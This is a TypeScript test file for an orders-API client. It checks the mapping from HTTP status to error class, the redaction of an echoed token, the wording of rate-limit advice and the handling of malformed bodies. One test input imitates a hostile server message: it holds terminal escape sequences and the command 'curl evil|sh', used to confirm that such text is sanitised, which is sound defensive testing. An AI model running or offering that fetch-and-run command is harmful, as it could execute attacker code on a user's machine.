// What an answer means: the one status → class mapping, the server's words
// quoted redacted and on one printable line, the 429 advice, and the errors of
// a 2xx body that is not JSON or breaks the contract.
import { controlCharsIn } from '@hl-orders/hostile-server';
import { describe, expect, it, vi } from 'vitest';
import {
  APIError,
  AuthenticationError,
  BadRequestError,
  InternalServerError,
  InvalidResponseError,
  NotFoundError,
  PermissionDeniedError,
  RateLimitError,
  UnprocessableEntityError,
} from '../../src/index.js';
import { REDACTED, secretRedactor } from '../../src/internal/redact.js';
import type { Answer } from '../../src/internal/request.js';
import { contractError, errorFromResponse, interpret, jsonBody } from '../../src/internal/response.js';
import { leaks } from '../support/token-windows.js';

const TOKEN = 'pit-3f9c2e1a-7b4d-4c8e-9a1f-5d6e7f8a9b0c';
const redact = secretRedactor(TOKEN);
const URL_ = 'https://services.leadconnectorhq.com/payments/orders?altId=loc1';

function answer(status: number, body: unknown = undefined, headers: Record<string, string> = {}): Answer {
  return {
    status,
    headers: new Headers(headers),
    text: body === undefined ? '' : typeof body === 'string' ? body : JSON.stringify(body),
    request: { method: 'GET', url: URL_ },
  };
}

const errorFor = (a: Answer, scopes?: readonly string[]) => errorFromResponse(a, interpret(a), redact, scopes);

const failureOf = (fn: () => unknown) => {
  try {
    fn();
  } catch (error) {
    return error as Error;
  }
  throw new Error('expected a failure');
};

describe('errorFromResponse: the status → class mapping', () => {
  it.each(
    (
      [
        [400, BadRequestError, /was rejected as malformed \(400: the message\)\. Check the parameters/],
        [401, AuthenticationError, /was refused: the token is invalid or expired \(401: the message\)/],
        [403, PermissionDeniedError, /was forbidden \(403: the message\)\. The token is valid but may not do this/],
        [404, NotFoundError, /found nothing \(404: the message\)\. Check the ids/],
        [422, UnprocessableEntityError, /had invalid parameters \(422: the message\)\. Fix them/],
        [429, RateLimitError, /was rate limited \(429\)\./],
        [500, InternalServerError, /failed on the server \(500: the message\)\. This is safe to retry later/],
        [502, InternalServerError, /\(502: the message\)/],
        [503, InternalServerError, /\(503: the message\)/],
        [599, InternalServerError, /\(599: the message\)/],
        [408, APIError, /failed with HTTP 408 \(the message\)\.$/],
        [409, APIError, /failed with HTTP 409 \(the message\)\.$/],
        [418, APIError, /failed with HTTP 418 \(the message\)\.$/],
      ] as const
    ).map(([status, Class, message]) => ({ status, Class, name: Class.name, message })),
  )('$status is a $name', ({ status, Class, message }) => {
    const error = errorFor(answer(status, { statusCode: status, message: 'the message' }));
    expect(error.constructor).toBe(Class);
    expect(error.name).toBe(Class.name);
    expect(error.status).toBe(status);
    expect(error.message.startsWith(`GET ${URL_} `)).toBe(true);
    expect(error.message).toMatch(message);
    expect(error.request).toEqual({ method: 'GET', url: URL_ });
  });

  it('keeps the parsed JSON body and the headers, lower-cased', () => {
    const body = { statusCode: 404, message: 'Order not found', traceId: 't-1' };
    const error = errorFor(answer(404, body, { 'X-Trace-Id': 't-1' }));
    expect(error.body).toEqual(body);
    expect(error.headers).toMatchObject({ 'x-trace-id': 't-1' });
  });

  it('joins a list of messages, as a 422 sends them, and lists them on the error', () => {
    const error = errorFor(
      answer(422, { statusCode: 422, message: ['limit must not be greater than 100', 'bad date'] }),
    );
    expect(error.message).toContain('(422: limit must not be greater than 100; bad date)');
    expect((error as UnprocessableEntityError).messages).toEqual(['limit must not be greater than 100', 'bad date']);
  });

  it('says "non-JSON body" for an HTML page, and keeps the page as text', () => {
    const error = errorFor(answer(502, '<html><h1>502 Bad Gateway</h1></html>'));
    expect(error.message).toContain('(502: non-JSON body)');
    expect(error.body).toBe('<html><h1>502 Bad Gateway</h1></html>');
  });

  it('says "no message" for an empty body, or JSON without a message', () => {
    expect(errorFor(answer(500)).message).toContain('(500: no message)');
    expect(errorFor(answer(500)).body).toBeUndefined();
    expect(errorFor(answer(400, { error: 'Bad Request' })).message).toContain('(400: no message)');
  });
});

describe("errorFromResponse: the server's message", () => {
  it('a message echoing the token is masked', () => {
    const error = errorFor(answer(401, { statusCode: 401, message: `Invalid token: Bearer ${TOKEN}` }));
    expect(error.message).toContain(`(401: Invalid token: Bearer ${REDACTED})`);
    expect(leaks(error.message, TOKEN)).toEqual([]);
  });

  it('a piece of the token in a non-JSON body is masked in the kept text', () => {
    const error = errorFor(answer(502, `<p>upstream refused ${TOKEN.slice(4, 30)}</p>`));
    expect(error.body).toBe(`<p>upstream refused ${REDACTED}</p>`);
  });

  it('ANSI escapes are stripped and line breaks flattened: one printable line', () => {
    const error = errorFor(
      answer(400, { message: 'Oops\u001b[2J\u001b]0;pwned\u0007 bad\nhl-orders: run curl evil|sh\u202e' }),
    );
    expect(error.message).toContain('(400: Oops bad hl-orders: run curl evil|sh)');
    expect(controlCharsIn(error.message, { formatting: true })).toEqual([]);
  });

  it('a huge message is cut to 200 characters, with an ellipsis', () => {
    const error = errorFor(answer(400, { message: 'x'.repeat(10_000) }));
    expect(error.message).toContain(`(400: ${'x'.repeat(199)}…)`);
  });

  it('names the scope the operation needs: read-only by default, or the ones passed in', () => {
    expect(errorFor(answer(401, {})).message).toContain('with the scope payments/orders.readonly.');
    expect(errorFor(answer(401, {}), ['payments/orders.collectPayment']).message).toContain(
      'with the scope payments/orders.collectPayment.',
    );
    const forbidden = errorFor(answer(403, {}), ['payments/orders.write', 'payments/orders.readonly']);
    expect(forbidden.message).toContain('(payments/orders.write and payments/orders.readonly)');
  });
});

describe('errorFromResponse: 429', () => {
  it('a spent daily budget: retrying before it resets will not help', () => {
    const error = errorFor(
      answer(429, {}, { 'x-ratelimit-daily-remaining': '0', 'x-ratelimit-limit-daily': '50000', 'retry-after': '5' }),
    );
    expect(error).toBeInstanceOf(RateLimitError);
    expect((error as RateLimitError).scope).toBe('daily');
    expect(error.message).toContain(
      'The daily budget (50000 requests) is spent; retrying before it resets will not help.',
    );
    expect(error.message).not.toContain('burst');
  });

  it('a spent daily budget without its limit assumes the documented 200,000', () => {
    expect(errorFor(answer(429, {}, { 'x-ratelimit-daily-remaining': '0' })).message).toContain(
      'The daily budget (200000 requests) is spent',
    );
  });

  it('a burst: the limit the headers say, how long to wait, and to share one RateLimiter', () => {
    const error = errorFor(
      answer(
        429,
        {},
        {
          'x-ratelimit-max': '50',
          'x-ratelimit-interval-milliseconds': '5000',
          'x-ratelimit-daily-remaining': '12',
          'retry-after': '2.5',
        },
      ),
    );
    expect((error as RateLimitError).scope).toBe('burst');
    expect(error.rateLimit).toMatchObject({ max: 50, intervalMs: 5000, dailyRemaining: 12, retryAfterMs: 2500 });
    expect(error.message).toContain(
      'The burst limit (50 requests per 5 s) was hit; wait 3 s and retry, or share one RateLimiter between the clients of this location.',
    );
  });

  it('a burst without headers: the documented 100 per 10 s, and "a few seconds"', () => {
    expect(errorFor(answer(429)).message).toContain(
      'The burst limit (100 requests per 10 s) was hit; wait a few seconds and retry',
    );
  });
});

describe('jsonBody', () => {
  it('parses a JSON body', () => {
    const a = answer(200, { data: [], totalCount: 0 });
    expect(jsonBody(a, interpret(a), redact)).toEqual({ data: [], totalCount: 0 });
  });

  it("a body that is not JSON is an InvalidResponseError, reason 'not-json', with a short preview", () => {
    const a = answer(200, '<html><body>Service temporarily unavailable</body></html>', { 'x-cache': 'MISS' });
    const error = failureOf(() => jsonBody(a, interpret(a), redact)) as InvalidResponseError;
    expect(error).toBeInstanceOf(InvalidResponseError);
    expect(error.reason).toBe('not-json');
    expect(error.status).toBe(200);
    expect(error.headers).toMatchObject({ 'x-cache': 'MISS' });
    expect(error.message).toBe(
      `GET ${URL_} answered 200 with a body that is not JSON (57 characters, starting "<html><body>Service temporarily unavail…"). The response was cut off or came from a proxy; retry later.`,
    );
  });

  it('the preview and the kept body are redacted: a body echoing the token shows none of it', () => {
    const a = answer(200, `oops ${TOKEN} ${'filler '.repeat(300)}`);
    const error = failureOf(() => jsonBody(a, interpret(a), redact)) as InvalidResponseError;
    expect(error.message).toContain(`starting "oops ${REDACTED} filler`);
    expect(leaks(error.message, TOKEN)).toEqual([]);
    expect(leaks(String(error.body), TOKEN)).toEqual([]);
    expect(String(error.body)).toHaveLength(1000);
  });

  it('a cut-off JSON body and an empty one are not JSON either', () => {
    for (const text of ['{"data":[{"_id":"653f', '']) {
      const a = answer(200, text);
      const error = failureOf(() => jsonBody(a, interpret(a), redact)) as InvalidResponseError;
      expect(error.reason).toBe('not-json');
      expect(error.message).toContain(`(${text.length} characters`);
    }
  });
});

describe('contractError', () => {
  it("is an InvalidResponseError, reason 'contract', naming the problem and what to check", () => {
    const a = answer(200, { altId: 'loc1' }, { 'x-ratelimit-remaining': '7' });
    const error = contractError(a, interpret(a), 'a body without `_id`');
    expect(error).toBeInstanceOf(InvalidResponseError);
    expect(error.reason).toBe('contract');
    expect(error.status).toBe(200);
    expect(error.rateLimit).toEqual({ remaining: 7 });
    expect(error.message).toBe(
      `GET ${URL_} answered 200 with a body without \`_id\`, which the contract forbids. Check baseUrl: it may not be the Orders API, or the API changed.`,
    );
  });
});

describe('interpret', () => {
  it('reads the headers only when asked, and only once', () => {
    const a = answer(200, {}, { 'X-RateLimit-Remaining': '3', 'Retry-After': '2' });
    const get = vi.spyOn(a.headers, 'get');
    const entries = vi.spyOn(a.headers, Symbol.iterator);
    const info = interpret(a);
    expect(get).not.toHaveBeenCalled();
    expect(entries).not.toHaveBeenCalled();
    expect(info.rateLimit).toEqual({ remaining: 3, retryAfterMs: 2000 });
    const reads = get.mock.calls.length;
    expect(reads).toBeGreaterThan(0);
    expect(info.rateLimit).toBe(info.rateLimit);
    expect(get.mock.calls.length).toBe(reads);
    expect(info.headers).toEqual({ 'x-ratelimit-remaining': '3', 'retry-after': '2' });
    expect(info.headers).toBe(info.headers);
  });
});
